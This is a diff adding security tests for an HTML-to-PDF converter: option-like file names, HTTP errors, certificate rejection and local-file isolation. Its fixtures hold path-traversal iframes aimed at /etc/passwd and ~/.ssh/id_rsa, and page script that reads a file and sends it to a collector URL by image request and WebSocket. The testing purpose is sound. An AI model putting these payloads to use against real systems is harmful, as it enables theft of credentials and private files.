@@ -1,5 +1,6 @@
 #include "ConvertCommand.h"
 #include "ConverterLocation.h"
+#include "PageLoadRules.h"
 #include "PdfTools.h"
 #include "RunTestSupport.h"
 #include "TextRules.h"
@@ -8,6 +9,10 @@
 #include <QHash>
 #include <QImage>
 #include <QProcess>
+#include <QSslCertificate>
+#include <QSslConfiguration>
+#include <QSslKey>
+#include <QSslServer>
 #include <QTcpServer>
 #include <QTcpSocket>
 #include <QTemporaryDir>
@@ -24,7 +29,8 @@ constexpr int kConverterWaitMs = 2 * 60 * 1000;
 constexpr int kImageWidth = 37;
 constexpr int kImageHeight = 23;
 
-// Answers GETs on 127.0.0.1: paths starting "/missing" with 404, "/broken" with 500, "/hang" never,
+// Answers GETs on 127.0.0.1: paths starting "/missing" with 404, "/broken" with 500, "/empty" with 204
+// (and a body, which the client ignores), "/hang" never,
 // anything else with one fixed HTML page.
 class PageServer final : public QObject {
 public:
@@ -57,6 +63,7 @@ private:
             return;
         const QByteArray status = path.startsWith("/missing")  ? "404 Not Found"
                                   : path.startsWith("/broken") ? "500 Internal Server Error"
+                                  : path.startsWith("/empty")  ? "204 No Content"
                                                                : "200 OK";
         const QByteArray body = status.startsWith("200") ? m_page : "<html><body>Error page</body></html>";
         socket->write("HTTP/1.1 " + status +
@@ -82,10 +89,17 @@ private slots:
 
     void localPageWithImageBesideIt();
     void plainTextFile();
+    void fileNamedLikeAnOption_data();
+    void fileNamedLikeAnOption();
     void pageFromLocalServer();
     void pageOutcomes_data();
     void pageOutcomes();
     void localDocumentReadsOnlyItsOwnFolder();
+    void documentSetKeepsItsLook();
+    void documentSetRootStopsAtItsLimits();
+    void localDocumentSendsNothing_data();
+    void localDocumentSendsNothing();
+    void untrustedCertificateFails();
     void textEncodings_data();
     void textEncodings();
     void timeLimitReasonWithoutProgressNoise();
@@ -167,6 +181,33 @@ void TestRealConverter::plainTextFile() {
     QVERIFY2(PdfText(pdf).contains("Minutes of the lighthouse keepers"), qPrintable(PdfText(pdf)));
 }
 
+// The converter tells a local file's kind by its name: README it knows as text; a name it cannot place
+// fails with a reason that says so, not one that blames a server.
+void TestRealConverter::fileNamedLikeAnOption_data() {
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<RowState>("state");
+    QTest::addColumn<QString>("reason");
+    QTest::newRow("README") << "README" << RowState::Converted << "";
+    QTest::newRow("dash-led name with an extension") << "--help.html" << RowState::Converted << "";
+    QTest::newRow("dash-led name without one")
+        << "--help" << RowState::Failed << "cannot tell what kind of document this file is";
+}
+
+void TestRealConverter::fileNamedLikeAnOption() {
+    QFETCH(QString, name);
+    QFETCH(RowState, state);
+    QFETCH(QString, reason);
+    QVERIFY(WriteFile(m_work->filePath(name), "Lighthouse log, first entry\n"));
+
+    const QString source = m_work->filePath(name);
+    ConvertOnly(source);
+
+    QCOMPARE(m_queue->State(0), state);
+    QVERIFY2(m_queue->Reason(0).contains(reason), qPrintable(m_queue->Reason(0)));
+    if (state == RowState::Converted)
+        QVERIFY2(PdfText(PdfOf(source)).contains("Lighthouse log"), qPrintable(PdfText(PdfOf(source))));
+}
+
 void TestRealConverter::pageFromLocalServer() {
     PageServer server("<html><body><p>Served tide tables for the bay</p></body></html>");
     QVERIFY(server.Listen());
@@ -190,6 +231,9 @@ void TestRealConverter::pageOutcomes_data() {
     QTest::newRow("404") << "/missing.html" << RowState::Failed << "The server answered 404 Not Found.";
     QTest::newRow("500") << "/broken.html" << RowState::Failed
                          << "The server answered 500 Internal Server Error.";
+    QTest::newRow("500, escapes in the address")
+        << "/broken.html?q=a%2Fb%3Ac" << RowState::Failed << "The server answered 500 Internal Server Error.";
+    QTest::newRow("204 No Content") << "/empty.html" << RowState::Failed << "the converter did not say why";
     QTest::newRow("host not found") << "host" << RowState::Failed
                                     << "The host nonexistent.invalid could not be found.";
     QTest::newRow("connection refused") << "refused" << RowState::Failed << "refused the connection";
@@ -225,12 +269,14 @@ void TestRealConverter::pageOutcomes() {
              QStringList());
 }
 
-// A document added as a file may read its own folder and below, and nothing else; not even through
-// script, which could otherwise send what it read to any server.
+// A document added as a file may read its own folder and below, but nothing dot-named there and nothing
+// outside that its HTML does not name; not even through script, which could otherwise send what it read
+// to any server.
 void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
     PageServer server("<html><body>ok</body></html>");
     QVERIFY(server.Listen());
     QVERIFY(WriteFile(m_work->filePath("private/marker.txt"), "PRIVATEMARKER"));
+    QVERIFY(WriteFile(m_work->filePath("site/.private/marker.txt"), "PRIVATEMARKER"));
     QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
     image.fill(Qt::darkRed);
     QVERIFY(QDir().mkpath(m_work->filePath("site/images")));
@@ -240,7 +286,7 @@ void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
     QVERIFY(WriteFile(
         m_work->filePath("site/page.html"),
         "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
-        "<img src=\"images/own.png\"><iframe src=\"../private/marker.txt\"></iframe>"
+        "<img src=\"images/own.png\"><iframe src=\".private/marker.txt\"></iframe>"
         "<p id=\"out\">none</p><script>"
         "var text = 'XHRFAILED';"
         "try { var x = new XMLHttpRequest(); x.open('GET', '../private/marker.txt', false); x.send();"
@@ -262,6 +308,116 @@ void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
              qPrintable(PdfImageSizes(pdf).join(", ")));
     QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
     QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
+}
+
+// Generated documentation keeps its style sheets, fonts and scripts in a folder beside the pages'.
+void TestRealConverter::documentSetKeepsItsLook() {
+    const QString page = WriteDocumentSet(m_work->filePath("docs"));
+    QVERIFY(!page.isEmpty());
+
+    ConvertOnly(page);
+
+    QCOMPARE(m_queue->State(0), RowState::Converted);
+    const QString problem = DocumentSetLookProblem(PdfOf(page));
+    QVERIFY2(problem.isEmpty(), qPrintable(problem));
+    // The converter draws text in a loaded web font as outlines: in a fallback font the sample would be
+    // text.
+    QVERIFY2(!PdfText(PdfOf(page)).contains(kDocumentSetSample), qPrintable(PdfText(PdfOf(page))));
+}
+
+// A page naming files far outside its set, or in a dot-named folder, gets no wider root for it.
+void TestRealConverter::documentSetRootStopsAtItsLimits() {
+    QVERIFY(WriteFile(m_work->filePath(".ssh/id_rsa"), "DOTFOLDERMARK"));
+    QVERIFY(WriteFile(m_work->filePath("docs/secret.txt"), "SIBLINGMARK"));
+    QVERIFY(WriteFile(m_work->filePath("docs/library/page.html"),
+                      "<html><body><p>Limits page</p>"
+                      "<iframe src=\"../../../../../../../../../etc/passwd\"></iframe>"
+                      "<iframe src=\"../../.ssh/id_rsa\"></iframe>"
+                      "<iframe src=\"~/.ssh/id_rsa\"></iframe></body></html>"));
+    const QString source = m_work->filePath("docs/library/page.html");
+
+    ConvertOnly(source);
+
+    const QString text = PdfText(PdfOf(source));
+    QVERIFY2(text.contains("Limits page"), qPrintable(text));
+    for (const char* marker : {"root:", "DOTFOLDERMARK"})
+        QVERIFY2(!text.contains(marker), qPrintable(text));
+    QCOMPARE(m_queue->State(0), RowState::ConvertedWithWarnings);
+    QVERIFY2(m_queue->Reason(0).contains("/etc/passwd"), qPrintable(m_queue->Reason(0)));
+}
+
+// A local page's script could read what the page may read and send it out, as an image's address;
+// whatever it tries, the marker reaches neither the server nor the PDF, and its own parts still show.
+void TestRealConverter::localDocumentSendsNothing_data() {
+    QTest::addColumn<QString>("target"); // what the script reads, relative to the page's folder
+    QTest::newRow("a file the page may read") << "notes/marker.txt";
+    QTest::newRow("a dot-named file beside it") << ".keys/marker.txt";
+    QTest::newRow("a file outside its set") << "../private/marker.txt";
+}
+
+void TestRealConverter::localDocumentSendsNothing() {
+    QFETCH(QString, target);
+    PageServer server("<html><body>ok</body></html>");
+    QVERIFY(server.Listen());
+    QVERIFY(WriteFile(QDir::cleanPath(m_work->filePath("site/" + target)), "PRIVATEMARKER"));
+    QVERIFY(WriteFile(m_work->filePath("site/style.css"), "h1:after { content: ' STYLESHEETLOADED'; }"));
+    const QByteArray collect = server.Url("/collect?k=").toUtf8();
+    QVERIFY(WriteFile(m_work->filePath("site/page.html"),
+                      "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
+                      "<p id=\"out\">none</p><script>"
+                      "var text = 'XHRFAILED';"
+                      "try { var x = new XMLHttpRequest(); x.open('GET', '" +
+                          target.toUtf8() +
+                          "', false); x.send(); text = 'XHR:' + x.responseText; } catch (e) {}"
+                          "document.getElementById('out').textContent = text;"
+                          "new Image().src = '" +
+                          collect +
+                          "' + encodeURIComponent(text);"
+                          "try { new WebSocket('" +
+                          QByteArray(collect).replace("http:", "ws:") +
+                          "' + encodeURIComponent(text)); } catch (e) {}"
+                          "</script></body></html>"));
+
+    const QString source = m_work->filePath("site/page.html");
+    ConvertOnly(source);
+
+    const QString text = PdfText(PdfOf(source));
+    QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
+    QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
+    QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
+}
+
+// The converter accepts any certificate; the row fails as with the Modern engine, before converting.
+void TestRealConverter::untrustedCertificateFails() {
+    QProcess openssl;
+    openssl.start("openssl", {"req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj",
+                              "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout",
+                              m_work->filePath("key.pem"), "-out", m_work->filePath("cert.pem")});
+    QVERIFY(openssl.waitForFinished(kConverterWaitMs) && openssl.exitCode() == 0);
+    QSslConfiguration tls = QSslConfiguration::defaultConfiguration();
+    tls.setLocalCertificate(QSslCertificate::fromPath(m_work->filePath("cert.pem")).value(0));
+    tls.setPrivateKey(QSslKey(ReadFile(m_work->filePath("key.pem")), QSsl::Rsa));
+    QSslServer server;
+    server.setSslConfiguration(tls);
+    QStringList requests;
+    connect(&server, &QSslServer::pendingConnectionAvailable, this, [&server, &requests] {
+        while (QTcpSocket* socket = server.nextPendingConnection())
+            connect(socket, &QTcpSocket::readyRead, socket, [socket, &requests] {
+                requests.append(QString::fromLatin1(socket->readAll()));
+                socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 28\r\n"
+                              "Connection: close\r\n\r\n<html><body>tls</body></html>");
+                socket->disconnectFromHost();
+            });
+    });
+    QVERIFY(server.listen(QHostAddress::LocalHost));
+    const QString source = QStringLiteral("https://127.0.0.1:%1/page.html").arg(server.serverPort());
+
+    ConvertOnly(source);
+
+    QCOMPARE(m_queue->State(0), RowState::Failed);
+    QCOMPARE(m_queue->Reason(0), NetErrorReason("net::ERR_CERT_AUTHORITY_INVALID", source));
+    QVERIFY(!QFileInfo::exists(PdfOf(source)));
+    QCOMPARE(requests, QStringList());
 }
 
 void TestRealConverter::textEncodings_data() {
